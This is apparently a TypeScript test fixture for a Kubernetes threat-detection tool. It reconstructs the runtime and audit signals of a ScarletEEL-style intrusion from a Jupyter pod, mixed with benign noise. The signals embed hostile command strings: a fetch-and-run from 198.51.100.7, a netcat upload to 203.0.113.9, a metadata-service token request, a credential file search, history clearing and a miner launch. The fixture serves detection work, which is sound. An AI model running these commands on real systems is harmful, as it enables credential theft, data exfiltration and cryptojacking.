import type { Entity, Signal } from '../../schemas/generated/types.ts'
import { entityOf, podOf, type SignalSketch, signalOf } from './signals.ts'

/**
 * The signals that an attack after the pattern of ScarletEEL 2.0 (published by Sysdig in July 2023) makes, reconstructed by
 * hand: a notebook is exploited, takes credentials, and uses its service account against the API. Addresses are from the
 * documentation ranges.
 */
const POD = podOf('5f0c7a7e-notebook', 'data/jupyter-6d4cf56db6-x2x9k')
const CONTAINER = entityOf('container', '4f1d0e5b7c9a2b3c4d5e6f70', 'actor', 'notebook')
const WORKLOAD = entityOf('workload', 'b1e2-jupyter', 'context', 'Deployment/data/jupyter')
const ACCOUNT = 'data/jupyter'
const NODE = entityOf('node', 'worker-1')
const IMAGE = entityOf('image', 'registry.example/jupyter:4.2')

/** The process tree, the outermost first. */
const PROCESSES = [
  entityOf('process', 'n1:1:9', 'context', '/usr/bin/containerd-shim-runc-v2 -namespace k8s.io'),
  entityOf('process', 'n1:100:10', 'context', '/opt/conda/bin/jupyter-lab --ip=0.0.0.0'),
  entityOf('process', 'n1:200:20', 'actor', 'bash -c "$(dload 198.51.100.7/.bin/.g/.a.sh)"')
] as const

function runtime(sketch: SignalSketch, process: Entity, ...targets: readonly Entity[]): SignalSketch {
  const ancestry = [process, ...PROCESSES.toReversed()].filter(
    (one, place, all) => all.findIndex(({ id }) => id === one.id) === place
  )
  const context = entityOf('service_account', ACCOUNT, 'context')
  const accounts = targets.some(({ type }) => type === 'service_account') ? [] : [context]
  return {
    ...sketch,
    source: 'runtime',
    ancestry,
    entities: [{ ...process, role: 'actor' }, CONTAINER, POD, WORKLOAD, ...accounts, NODE, IMAGE, ...targets]
  }
}

function audit(sketch: SignalSketch, ...targets: readonly Entity[]): SignalSketch {
  return {
    ...sketch,
    source: 'audit',
    entities: [
      entityOf('service_account', ACCOUNT, 'actor'),
      entityOf('credential', 'JTI=2f6a', 'actor'),
      POD,
      entityOf('source_address', '10.1.3.7'),
      ...targets
    ]
  }
}

const process = (pid: number, command: string) => entityOf('process', `n1:${pid}:${pid / 10}`, 'actor', command)
const indicator = (value: string) => entityOf('indicator', value, 'target')

const SKETCHES: readonly SignalSketch[] = [
  runtime(
    {
      id: 'atk-01',
      minute: 0,
      code: 'R03',
      severity: 'medium',
      title: 'Shell started by jupyter-lab in data/jupyter',
      tactics: ['initial-access', 'execution'],
      techniques: ['T1190', 'T1059.004']
    },
    PROCESSES[2]
  ),
  runtime(
    {
      id: 'atk-02',
      minute: 0.1,
      code: 'R06',
      title: 'Shell of data/jupyter connected to 198.51.100.7',
      action: 'connect',
      tactics: ['command-and-control'],
      techniques: ['T1105']
    },
    PROCESSES[2],
    indicator('198.51.100.7')
  ),
  runtime(
    {
      id: 'atk-03',
      minute: 1.5,
      code: 'R20',
      title: 'Package manager ran in data/jupyter',
      tactics: ['execution'],
      techniques: ['T1072']
    },
    process(210, 'apt-get install -y curl netcat')
  ),
  ...[2, 2.2, 2.4].map((minute, place) =>
    runtime(
      {
        id: `atk-04${place}`,
        minute,
        code: 'R26',
        severity: 'medium',
        title: 'Process of data/jupyter asked the cloud metadata service',
        dedup_key: 'R26 jupyter',
        action: 'connect',
        tactics: ['credential-access'],
        techniques: ['T1552.005']
      },
      process(220 + place, 'curl -X PUT http://169.254.169.254/latest/api/token'),
      indicator('169.254.169.254')
    )
  ),
  runtime(
    {
      id: 'atk-05',
      minute: 4,
      code: 'R29',
      title: 'Search for credential files in data/jupyter',
      tactics: ['credential-access'],
      techniques: ['T1552.001']
    },
    process(230, 'find / -name credentials')
  ),
  runtime(
    {
      id: 'atk-06',
      minute: 6,
      code: 'R70',
      title: 'Upload from data/jupyter to 203.0.113.9:9999',
      action: 'connect',
      tactics: ['exfiltration'],
      techniques: ['T1048']
    },
    process(240, 'nc 203.0.113.9 9999'),
    indicator('203.0.113.9')
  ),
  runtime(
    {
      id: 'atk-07',
      minute: 12,
      code: 'R23',
      severity: 'medium',
      title: 'peirates of data/jupyter read the service account token',
      action: 'read',
      tactics: ['credential-access'],
      techniques: ['T1528']
    },
    process(250, './peirates -c'),
    entityOf('service_account', ACCOUNT, 'target')
  ),
  audit({
    id: 'atk-08',
    minute: 13,
    code: 'A23',
    title: 'Service account data/jupyter asked what it may do',
    action: 'selfsubjectrulesreviews:create',
    tactics: ['discovery'],
    techniques: ['T1613']
  }),
  ...Array.from({ length: 5 }, (_, place) =>
    audit(
      {
        id: `atk-09${place}`,
        minute: 14 + place / 10,
        code: 'A05',
        title: 'Service account data/jupyter was refused secrets',
        dedup_key: 'A05 jupyter',
        action: 'secrets:list',
        outcome: 'failure',
        tactics: ['discovery'],
        techniques: ['T1613']
      },
      entityOf('secret', `ns-${place}/*`, 'target')
    )
  ),
  audit(
    {
      id: 'atk-10',
      minute: 15,
      code: 'A108',
      severity: 'high',
      title: 'Service account data/jupyter listed the secrets of all namespaces',
      action: 'secrets:list',
      tactics: ['credential-access'],
      techniques: ['T1552.007'],
      playbook: 'contain-workload'
    },
    entityOf('secret', '*', 'target')
  ),
  runtime(
    {
      id: 'atk-11',
      minute: 25,
      code: 'R60',
      title: 'Shell history cleared in data/jupyter',
      tactics: ['defense-evasion'],
      techniques: ['T1070.003']
    },
    process(260, 'history -cw')
  ),
  runtime(
    {
      id: 'atk-12',
      minute: 40,
      code: 'R65',
      severity: 'high',
      title: 'Miner started in data/jupyter',
      tactics: ['impact'],
      techniques: ['T1496.001']
    },
    process(270, '/root/.configure/containerd -o pool.example:443'),
    indicator('pool.example')
  )
]

/** What goes on besides, on the same node, with the same images and from the same address, by people and controllers. */
const BENIGN: readonly SignalSketch[] = Array.from({ length: 60 }, (_, place): SignalSketch => {
  const minute = place * 0.8
  switch (place % 4) {
    case 0:
      return {
        id: `ben-${place}`,
        minute,
        source: 'audit',
        code: 'A30',
        title: 'alice ran a command in a pod',
        action: 'pods/exec:create',
        entities: [
          entityOf('user', 'alice', 'actor'),
          entityOf('source_address', '10.1.3.7'),
          podOf(`uid-shop-${place}`, `shop/web-${place}`, 'target')
        ]
      }
    case 1:
      return {
        id: `ben-${place}`,
        minute,
        code: 'R01',
        title: 'Shell with a terminal in a pod',
        entities: [
          entityOf('container', `c${place}`.padEnd(64, '0'), 'actor'),
          podOf(`uid-shop-${place}`, `shop/web-${place}`),
          entityOf('service_account', ACCOUNT, 'context'),
          NODE,
          IMAGE
        ]
      }
    case 2:
      return {
        id: `ben-${place}`,
        minute,
        source: 'audit',
        code: 'A48',
        title: 'Controller created a pod',
        action: 'pods:create',
        tactics: ['persistence'],
        entities: [
          entityOf('service_account', 'kube-system/replicaset-controller', 'actor'),
          entityOf('credential', 'JTI=ctrl', 'actor'),
          podOf(`uid-rs-${place}`, `shop/rs-${place}`, 'target'),
          IMAGE
        ]
      }
    default:
      return {
        id: `ben-${place}`,
        minute,
        source: 'audit',
        code: 'A05',
        severity: 'informational',
        title: 'A node was refused',
        action: 'secrets:get',
        outcome: 'failure',
        tactics: ['discovery'],
        entities: [
          { ...NODE, role: 'actor' },
          entityOf('credential', 'X509SHA256=kubelet', 'actor'),
          entityOf('secret', 'shop/db', 'target')
        ]
      }
  }
})

export const ATTACK: readonly Signal[] = SKETCHES.map(signalOf)
export const ATTACK_AND_BENIGN: readonly Signal[] = [...SKETCHES, ...BENIGN]
  .map(signalOf)
  .toSorted((a, b) => a.time - b.time)
